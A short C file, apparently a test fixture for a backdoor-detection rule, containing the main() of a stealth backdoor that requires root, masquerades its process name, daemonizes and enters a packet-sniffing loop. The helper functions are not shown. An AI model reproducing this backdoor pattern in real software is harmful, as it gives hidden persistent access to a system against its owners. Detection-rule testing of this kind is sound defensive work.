#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

#include "bd.h"

int main(int argc, char **argv)
{
    // ok: backdoor-trusted-identity
    if (getuid() != 0)
        return 0;
    if (bd_single_instance() != 0)
        return 0;
    bd_masquerade(argc, argv);
    signal(SIGCHLD, SIG_IGN);
    if (fork() != 0)
        return 0;
    setsid();
    return bd_sniff_loop() == 0 ? EXIT_SUCCESS : EXIT_FAILURE;
}
